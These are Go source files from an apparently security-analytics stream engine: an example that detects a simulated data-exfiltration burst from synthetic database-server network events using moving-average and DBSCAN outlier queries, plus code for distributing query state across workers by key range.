	if err := src.Run(context.Background(), eng); err != nil {
		log.Fatal(err)
	}
	// Close drains the ingest queue and flushes the open aggregation
	// window, which is what fires the volume query's final alert.
	if err := eng.Close(); err != nil {
		log.Fatal(err)
	}

	st := src.Stats()
	fmt.Printf("\n%d lines -> %d events (%d undecodable), %d batches\n",
		st.Lines, st.Events, st.DecodeErrors, st.Batches)
	for _, q := range []string{"exfil-chain", "exfil-volume"} {
		if alerts[q] == 0 {
			log.Fatalf("expected an alert from %s, got none", q)
		}
	}
	fmt.Println("both exfiltration queries fired")
}
