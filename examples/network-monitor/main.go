// Network monitor: continuous monitoring of per-process network volume on a
// database server, in the style of the paper's Queries 2 and 4.
//
// Two stateful anomaly queries run side by side over the same stream (and
// are scheduled in one master–dependent group because their event patterns
// are compatible):
//
//   - a time-series query computing a 3-window simple moving average of
//     per-process network writes and alerting on spikes, and
//   - an outlier query peer-comparing per-destination transfer volumes
//     with DBSCAN.
//
// The example also cross-checks the SAQL SMA alert against the standalone
// tsmodel.SMA detector to show they implement the same model.
package main

import (
	"context"
	"fmt"
	"log"
	"time"

	"saql"
	"saql/internal/tsmodel"
)

const windowLen = time.Minute

const smaQuery = `
agentid = "db-1"
proc p write ip i as evt #time(1 min)
state[3] ss {
  avg_amount := avg(evt.amount)
} group by p
alert (ss[0].avg_amount > (ss[0].avg_amount + ss[1].avg_amount + ss[2].avg_amount) / 3) && (ss[0].avg_amount > 100000)
return p, ss[0].avg_amount, ss[1].avg_amount, ss[2].avg_amount
`

const outlierQuery = `
agentid = "db-1"
proc p write ip i as evt #time(1 min)
state ss {
  amt := sum(evt.amount)
} group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(500000, 3)")
alert cluster.outlier && ss.amt > 5000000
return i.dstip, ss.amt
`

func main() {
	eng := saql.New(saql.WithShards(2))
	if _, err := eng.Register("net-sma", smaQuery); err != nil {
		log.Fatal(err)
	}
	if _, err := eng.Register("net-outlier", outlierQuery); err != nil {
		log.Fatal(err)
	}
	// The SMA query partitions its per-process state across shards; the
	// outlier query needs all peer groups of a window in one place, so the
	// runtime pins it to a single shard.
	for _, name := range []string{"net-sma", "net-outlier"} {
		p, _ := eng.QueryPlacement(name)
		fmt.Printf("%-12s placement=%s\n", name, p)
	}
	if err := eng.Start(context.Background()); err != nil {
		log.Fatal(err)
	}
	sub := eng.Subscribe(64, saql.Block)
	printed := make(chan struct{})
	go func() {
		defer close(printed)
		for a := range sub.C {
			fmt.Printf("%-11s %s\n", "["+a.Kind.String()+"]", a)
		}
	}()
	fmt.Println()

	// Synthetic DB-server traffic: sqlservr answers 8 client IPs steadily;
	// in minute 7, a compromised helper process bursts 80 MB to one
	// external address.
	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	sql := saql.Process("sqlservr.exe", 1680)
	helper := saql.Process("sqlagent.exe", 1702)
	submit := func(ev *saql.Event) {
		if err := eng.Submit(ev); err != nil {
			log.Fatal(err)
		}
	}

	var perWindowAvg []float64 // sqlservr's per-window mean, for the cross-check
	for minute := 0; minute < 12; minute++ {
		at := start.Add(time.Duration(minute) * windowLen)
		var winSum float64
		var winN int
		for c := 0; c < 8; c++ {
			amt := 40000 + float64(c)*1000 + float64(minute)*500
			conn := saql.NetConn("10.0.3.10", 1433, fmt.Sprintf("10.0.1.%d", 20+c), 49000)
			submit(&saql.Event{
				Time: at.Add(time.Duration(c*6) * time.Second), AgentID: "db-1",
				Subject: sql, Op: saql.OpWrite, Object: conn, Amount: amt,
			})
			winSum += amt
			winN++
		}
		perWindowAvg = append(perWindowAvg, winSum/float64(winN))
		if minute == 7 {
			exfil := saql.NetConn("10.0.3.10", 1433, "203.0.113.77", 8443)
			for chunk := 0; chunk < 8; chunk++ {
				submit(&saql.Event{
					Time: at.Add(50*time.Second + time.Duration(chunk)*time.Second), AgentID: "db-1",
					Subject: helper, Op: saql.OpWrite, Object: exfil, Amount: 10 << 20,
				})
			}
		}
	}
	// Close drains, flushes the final windows, and ends the subscription.
	if err := eng.Close(); err != nil {
		log.Fatal(err)
	}
	<-printed

	// Cross-check: the standalone SMA detector over sqlservr's series must
	// stay silent, exactly as the SAQL query did for that process.
	det, err := tsmodel.NewSMA(3, 100000)
	if err != nil {
		log.Fatal(err)
	}
	var smaAlerts int
	for _, x := range perWindowAvg {
		if _, anomalous := det.Observe(x); anomalous {
			smaAlerts++
		}
	}
	fmt.Printf("\ncross-check: tsmodel.SMA over sqlservr's series raised %d alerts "+
		"(the SAQL query raised alerts only for the bursting helper process)\n", smaAlerts)
}
