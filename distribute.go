package saql

// Distributed execution support: key-range ownership over the FNV group-key
// hash space and barrier-consistent state transfer. These are the engine
// hooks the internal/dist coordinator/worker layer builds on — a worker is
// a normal Engine restricted to the key ranges it owns (WithKeyRanges),
// and a key range migrates between workers by folding the source's
// checkpoint state blobs into the target (RestoreStateBlobs), whose
// ownership filters keep exactly the state it now owns.

import (
	"fmt"

	"saql/internal/runtime"
)

// KeyRange is an inclusive range [Lo, Hi] of the 32-bit FNV-1a ownership
// hash space — the same hashing the sharded runtime uses to split group-by
// keys, event subjects, and pinned-query homes across shards (see
// HashGroupKey and HashSubject). A cluster partitions [0, 1<<32) into
// contiguous ranges, one set per worker.
type KeyRange struct {
	Lo uint32
	Hi uint32
}

// Contains reports whether the range owns hash h.
func (r KeyRange) Contains(h uint32) bool { return h >= r.Lo && h <= r.Hi }

// String renders the range in hex.
func (r KeyRange) String() string { return fmt.Sprintf("[%08x,%08x]", r.Lo, r.Hi) }

// HashGroupKey returns the ownership hash of a group-by key or query name —
// the value key-range ownership is decided on for by-group state and pinned
// query homes.
func HashGroupKey(key string) uint32 { return runtime.HashKey(key) }

// HashSubject returns the ownership hash of an event's subject entity — the
// value key-range ownership is decided on for by-event (stateless rule)
// queries.
func HashSubject(ev *Event) uint32 { return runtime.HashEventKey(ev) }

// WithKeyRanges restricts a started engine to the given slices of the
// ownership hash space: by-group replicas fold only group keys hashing into
// an owned range, by-event replicas fold only events whose subject hashes
// into one, and a pinned query materialises only when the engine owns the
// hash of the query's name. Every event is still observed (watermarks and
// window boundaries advance identically on every worker of a cluster, which
// is what keeps distributed execution alert-for-alert equivalent to
// serial); ownership only gates state folding and alerting.
//
// With no ranges the engine owns the whole space (the default). The option
// applies to the sharded runtime: cluster ownership composes with the
// per-shard ownership split on Start, and Restore forwards it via
// WithRestoreEngineOptions.
func WithKeyRanges(ranges ...KeyRange) Option {
	rs := append([]KeyRange(nil), ranges...)
	return func(c *config) { c.ranges = rs }
}

// ownsFunc compiles the configured key ranges into the runtime's ownership
// predicate (nil when the engine owns the whole space).
func (c *config) ownsFunc() func(uint32) bool {
	if len(c.ranges) == 0 {
		return nil
	}
	rs := c.ranges
	return func(h uint32) bool {
		for _, r := range rs {
			if r.Contains(h) {
				return true
			}
		}
		return false
	}
}

// RestoreStateBlobs folds captured query-state blobs into a running engine
// at a pre-stream control barrier — the state-transfer half of a key-range
// migration. The blobs are a checkpoint's per-query States (one consistent
// cut, taken at the same stream offset this engine was restored to); every
// blob is offered to every shard, and the engine's ownership filters keep
// exactly the state it owns: group-keyed state lands where the group hash
// is owned, single-owner state (distinct tables, partial matches, pinned
// windows) is granted to the lowest shard holding a replica, and shared
// stream clocks merge by max/union — so re-folding state for unowned groups
// is harmless, which is what lets a migration ship a source worker's whole
// snapshot and let the target keep only the migrated range.
//
// Blobs for queries not registered on this engine are ignored.
func (e *Engine) RestoreStateBlobs(states map[string][][]byte) error {
	rt := e.rt.Load()
	if rt == nil {
		return ErrNotRunning
	}
	if len(states) == 0 {
		return nil
	}
	return rt.RestoreStates(states)
}
